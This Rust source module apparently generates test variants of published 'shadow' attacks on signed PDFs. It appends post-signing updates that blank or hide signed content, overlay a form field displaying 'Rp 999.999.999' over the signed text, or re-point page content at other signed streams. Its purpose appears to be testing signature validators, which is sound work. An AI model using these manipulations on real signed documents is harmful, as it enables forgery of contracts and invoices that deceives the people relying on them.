//! Shadow attacks (Mainka et al., NDSS 2021) done after signing, on any signed file: hide
//! (signed content made invisible), replace (a form field whose appearance is drawn over the
//! signed page text), hide-and-replace (a reference re-pointed at other content that was
//! already inside the signed bytes).

use lopdf::{Dictionary, Object, ObjectId};

use super::base::Base;
use super::update::{serialize, stream};
use super::{Class, Update, Variant, appended, overlay_xobject};

pub(super) fn variants(base: &Base) -> Vec<Variant> {
    [
        content_emptied(base)
            .and_then(|u| appended(base, "shadow-hide/content-emptied", Class::ShadowHide, &u)),
        page_without(base, b"Annots").and_then(|u| {
            appended(
                base,
                "shadow-hide/page-annotations-removed",
                Class::ShadowHide,
                &u,
            )
        }),
        page_without(base, b"Resources").and_then(|u| {
            appended(
                base,
                "shadow-hide/page-resources-removed",
                Class::ShadowHide,
                &u,
            )
        }),
        new_text_field(base).and_then(|u| {
            appended(
                base,
                "shadow-replace/new-text-field-overlay",
                Class::ShadowReplace,
                &u,
            )
        }),
        existing_text_field(base).and_then(|u| {
            appended(
                base,
                "shadow-replace/text-field-value-overlay",
                Class::ShadowReplace,
                &u,
            )
        }),
        signed_widget_overlay(base).and_then(|u| {
            appended(
                base,
                "shadow-replace/signed-widget-appearance",
                Class::ShadowReplace,
                &u,
            )
        }),
        content_repointed_by_xref(base).and_then(|u| {
            let name = "shadow-hide-and-replace/xref-repoints-content";
            appended(base, name, Class::ShadowHideAndReplace, &u)
        }),
        page_contents_repointed(base).and_then(|u| {
            let name = "shadow-hide-and-replace/page-contents-repointed";
            appended(base, name, Class::ShadowHideAndReplace, &u)
        }),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn content_emptied(base: &Base) -> Option<Update> {
    let (num, generation) = base.first_content()?;
    Some(Update::new().object(num, generation, stream("", b"")))
}

/// The first page redefined without `key`.
fn page_without(base: &Base, key: &[u8]) -> Option<Update> {
    let (id, page) = base.first_page()?;
    let mut page = page.clone();
    page.remove(key)?;
    Some(Update::new().object(id.0, id.1, serialize(&Object::Dictionary(page))))
}

/// `u` plus whatever makes annotation `annot` part of the first page's `/Annots`.
pub(super) fn add_annotation(base: &Base, u: Update, annot: u32) -> Option<Update> {
    let (id, page) = base.first_page()?;
    let new = Object::Reference((annot, 0));
    match page.get(b"Annots").ok() {
        Some(Object::Reference(arr)) => {
            let mut list = base.object(*arr)?.as_array().ok()?.clone();
            list.push(new);
            Some(u.object(arr.0, arr.1, serialize(&Object::Array(list))))
        }
        other => {
            let mut list = other
                .and_then(|o| o.as_array().ok())
                .cloned()
                .unwrap_or_default();
            list.push(new);
            let mut page = page.clone();
            page.set("Annots", list);
            Some(u.object(id.0, id.1, serialize(&Object::Dictionary(page))))
        }
    }
}

/// `u` plus whatever makes field `field` part of the AcroForm's `/Fields`.
pub(super) fn add_field(base: &Base, u: Update, field: u32) -> Option<Update> {
    let (cat_id, catalog) = base.catalog()?;
    let new = Object::Reference((field, 0));
    let push = |form: &mut Dictionary| {
        let mut fields = form
            .get(b"Fields")
            .ok()
            .and_then(|f| f.as_array().ok())
            .cloned()
            .unwrap_or_default();
        fields.push(new.clone());
        form.set("Fields", fields);
    };
    match catalog.get(b"AcroForm").ok() {
        Some(Object::Reference(form_id)) => {
            let mut form = base.object(*form_id)?.as_dict().ok()?.clone();
            if let Ok(Object::Reference(arr)) = form.get(b"Fields") {
                let mut list = base.object(*arr)?.as_array().ok()?.clone();
                list.push(new.clone());
                return Some(u.object(arr.0, arr.1, serialize(&Object::Array(list))));
            }
            push(&mut form);
            Some(u.object(form_id.0, form_id.1, serialize(&Object::Dictionary(form))))
        }
        other => {
            let mut form = other
                .and_then(|o| o.as_dict().ok())
                .cloned()
                .unwrap_or_default();
            push(&mut form);
            let mut catalog = catalog.clone();
            catalog.set("AcroForm", form);
            Some(u.object(cat_id.0, cat_id.1, serialize(&Object::Dictionary(catalog))))
        }
    }
}

/// A widget annotation dictionary over the top of the first page, drawing `ap`.
pub(super) fn widget(base: &Base, extra: &str, ap: u32) -> Option<Vec<u8>> {
    let (page, _) = base.first_page()?;
    Some(
        format!(
            "<< /Type /Annot /Subtype /Widget {extra} /Rect [60 680 540 740] /F 4 /P {} {} R \
             /AP << /N {ap} 0 R >> >>",
            page.0, page.1
        )
        .into_bytes(),
    )
}

/// A new text field, filled in, whose appearance covers the top of the first page.
fn new_text_field(base: &Base) -> Option<Update> {
    let n = base.next_num();
    let field = widget(
        base,
        "/FT /Tx /T (Jumlah) /V (Rp 999.999.999) /DA (/Helv 18 Tf 0 g)",
        n + 1,
    )?;
    let u = Update::new().object(n, 0, field).object(
        n + 1,
        0,
        overlay_xobject(480, 60, "Rp 999.999.999"),
    );
    add_field(base, add_annotation(base, u, n)?, n)
}

/// A text field of the signed document, filled in after signing with an appearance over
/// the page (the replace attack proper, when the base has a text field).
fn existing_text_field(base: &Base) -> Option<Update> {
    let doc = base.doc.as_ref()?;
    let (id, field) = doc.objects.iter().find_map(|(id, o)| {
        let d = o.as_dict().ok()?;
        (d.get(b"FT").ok()?.as_name().ok()? == b"Tx" && d.has(b"Rect")).then_some((*id, d))
    })?;
    let n = base.next_num();
    let mut field = field.clone();
    field.set("V", Object::string_literal("Rp 999.999.999"));
    field.set("Rect", vec![60.into(), 680.into(), 540.into(), 740.into()]);
    let mut ap = Dictionary::new();
    ap.set("N", Object::Reference((n, 0)));
    field.set("AP", ap);
    Some(
        Update::new()
            .object(id.0, id.1, serialize(&Object::Dictionary(field)))
            .object(n, 0, overlay_xobject(480, 60, "Rp 999.999.999")),
    )
}

/// The signed field's widget moved over the page with an appearance that covers its text.
fn signed_widget_overlay(base: &Base) -> Option<Update> {
    let (id, field) = base.sig_field()?;
    if !field.has(b"Rect") {
        return None;
    }
    let n = base.next_num();
    let mut field = field.clone();
    field.set("Rect", vec![60.into(), 680.into(), 540.into(), 740.into()]);
    field.set("F", 4);
    let mut ap = Dictionary::new();
    ap.set("N", Object::Reference((n, 0)));
    field.set("AP", ap);
    Some(
        Update::new()
            .object(id.0, id.1, serialize(&Object::Dictionary(field)))
            .object(n, 0, overlay_xobject(480, 60, "Rp 999.999.999")),
    )
}

/// Another stream object of the signed revision than the first page's content: another
/// page's content if there is one, else any stream (a font, an image, metadata).
fn other_stream(base: &Base) -> Option<ObjectId> {
    let doc = base.doc.as_ref()?;
    let content = base.first_content()?;
    let limit = base.signed_end()?;
    let raw: Vec<_> = super::lex::headers(base.bytes, limit)
        .iter()
        .map(|h| (h.num, h.generation))
        .collect();
    let pages: Vec<ObjectId> = doc
        .get_pages()
        .values()
        .skip(1)
        .flat_map(|p| doc.get_page_contents(*p))
        .collect();
    let streams = doc
        .objects
        .iter()
        .filter(|(_, o)| o.as_stream().is_ok_and(|s| !s.dict.has(b"Type")))
        .map(|(id, _)| *id);
    pages
        .into_iter()
        .chain(streams)
        .find(|id| *id != content && raw.contains(id))
}

/// Cross-reference section + trailer only: the page content's number re-pointed at another
/// stream's body inside the signed bytes (the RUB hide-and-replace exploit's shape).
fn content_repointed_by_xref(base: &Base) -> Option<Update> {
    let content = base.first_content()?;
    let other = other_stream(base)?;
    let offset = *base.raw_bodies(other.0, base.signed_end()?).last()?;
    let mut u = Update::new();
    u.repoint.push((content.0, content.1, offset));
    Some(u)
}

/// The first page redefined with `/Contents` pointing at another signed stream.
fn page_contents_repointed(base: &Base) -> Option<Update> {
    let (id, page) = base.first_page()?;
    let other = other_stream(base)?;
    let mut page = page.clone();
    page.set("Contents", Object::Reference(other));
    Some(Update::new().object(id.0, id.1, serialize(&Object::Dictionary(page))))
}
